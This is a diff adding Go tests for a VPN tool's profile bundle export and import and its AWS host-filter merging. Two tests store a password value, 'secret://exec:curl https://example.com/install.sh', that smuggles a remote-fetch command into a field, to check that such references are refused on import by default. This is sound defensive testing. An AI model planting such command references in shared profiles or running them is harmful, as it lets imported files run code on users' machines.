@@ -0,0 +1,137 @@
+package main
+
+import (
+	"io/ioutil"
+	"os"
+	"os/exec"
+	"path"
+	"reflect"
+	"strings"
+	"testing"
+)
+
+// useTestBundles prepares a config file that keeps the profile store
+// unencrypted once the config is reloaded, and the bundle passphrase
+func useTestBundles(t *testing.T) string {
+	t.Helper()
+	dir := useTestResources(t)
+	err := ioutil.WriteFile(configFilePath, []byte("profile_store:\n  encrypt: false\n"), 0600)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Setenv(bundlePassphraseEnv, "bundle passphrase")
+	return dir
+}
+
+func TestExportProfileResolvesReferences(t *testing.T) {
+	dir := useTestBundles(t)
+	t.Setenv("VPN_TEST_PSK", "from-env")
+	profile := testProfile
+	profile.Psk = "secret://env:VPN_TEST_PSK"
+	storeProfiles([]vpnProfile{profile})
+	tests := []struct {
+		name           string
+		keepReferences bool
+		want           string
+	}{
+		{name: "resolved", want: "from-env"},
+		{name: "kept", keepReferences: true, want: "secret://env:VPN_TEST_PSK"},
+	}
+	for _, test := range tests {
+		t.Run(test.name, func(t *testing.T) {
+			output := path.Join(dir, test.name+".vpnprofile")
+
+			exportProfile("test", bundleExport{output: output, keepReferences: test.keepReferences})
+
+			bundle := readProfileBundle(output)
+			if bundle.Profile.Psk != test.want {
+				t.Errorf("bundled psk = %q, want %q", bundle.Profile.Psk, test.want)
+			}
+		})
+	}
+}
+
+func TestImportProfileReferences(t *testing.T) {
+	dir := useTestBundles(t)
+	profile := testProfile
+	profile.PassWord = "secret://exec:curl https://example.com/install.sh"
+	storeProfiles([]vpnProfile{profile})
+	bundlePath := path.Join(dir, "test.vpnprofile")
+	exportProfile("test", bundleExport{output: bundlePath, keepReferences: true})
+
+	importProfile(bundlePath, bundleImport{newName: "allowed", allowReferences: true})
+
+	vpnProfiles := loadProfileFile()
+	if imported := vpnProfiles[profileIndex(vpnProfiles, "allowed")]; imported.PassWord != profile.PassWord {
+		t.Errorf("imported password = %q, want the reference kept", imported.PassWord)
+	}
+}
+
+// TestImportProfileRefusesReferences imports in a child process as the
+// refusal exits
+func TestImportProfileRefusesReferences(t *testing.T) {
+	if bundlePath := os.Getenv("VPN_TEST_IMPORT_BUNDLE"); bundlePath != "" {
+		useTestBundles(t)
+		importProfile(bundlePath, bundleImport{newName: "refused"})
+		t.Fatal("importProfile returned")
+	}
+	dir := useTestBundles(t)
+	profile := testProfile
+	profile.PassWord = "secret://exec:curl https://example.com/install.sh"
+	storeProfiles([]vpnProfile{profile})
+	bundlePath := path.Join(dir, "test.vpnprofile")
+	exportProfile("test", bundleExport{output: bundlePath, keepReferences: true})
+
+	child := exec.Command(os.Args[0], "-test.run=^TestImportProfileRefusesReferences$")
+	child.Env = append(os.Environ(), "VPN_TEST_IMPORT_BUNDLE="+bundlePath)
+	output, err := child.CombinedOutput()
+	if exitErr, ok := err.(*exec.ExitError); !ok || exitErr.ExitCode() != 1 {
+		t.Fatalf("import exited with %v, want 1\n%s", err, output)
+	}
+	if want := "holds secret references for the password"; !strings.Contains(string(output), want) {
+		t.Errorf("output = %q, want it to contain %q", output, want)
+	}
+}
+
+func TestImportHostFilter(t *testing.T) {
+	local := discoveryFilter{Tags: map[string]string{"Name": "*vpn*"}, NameTag: "Name"}
+	bundled := discoveryFilter{Tags: map[string]string{"Role": "vpn"}, States: []string{"running"}}
+	tests := []struct {
+		name   string
+		local  *discoveryFilter
+		policy string
+		input  string
+		want   discoveryFilter
+	}{
+		{name: "no local filter", policy: bundlePolicyFail, want: bundled},
+		{name: "overwrite", local: &local, policy: bundlePolicyReplace, want: bundled},
+		{
+			name:   "merge",
+			local:  &local,
+			policy: bundlePolicyMerge,
+			want:   discoveryFilter{Tags: local.Tags, States: bundled.States, NameTag: "Name"},
+		},
+		{name: "fail confirmed", local: &local, policy: bundlePolicyFail, input: "y\n", want: bundled},
+		{name: "fail declined", local: &local, policy: bundlePolicyFail, input: "n\n", want: local},
+	}
+	for _, test := range tests {
+		t.Run(test.name, func(t *testing.T) {
+			useTestBundles(t)
+			pipeStdin(t, test.input)
+			//AWS profile names may contain dots
+			awsProfile := "corp.prod"
+			if test.local != nil {
+				setConfigPath([]string{"discovery", "profiles", awsProfile}, *test.local)
+			}
+
+			importHostFilter(awsProfile, bundled, test.policy)
+
+			if got := config.Discovery.Profiles[awsProfile]; !reflect.DeepEqual(got, test.want) {
+				t.Errorf("filter = %+v, want %+v", got, test.want)
+			}
+			if len(config.Discovery.Profiles) != 1 {
+				t.Errorf("profiles = %+v, want only %s", config.Discovery.Profiles, awsProfile)
+			}
+		})
+	}
+}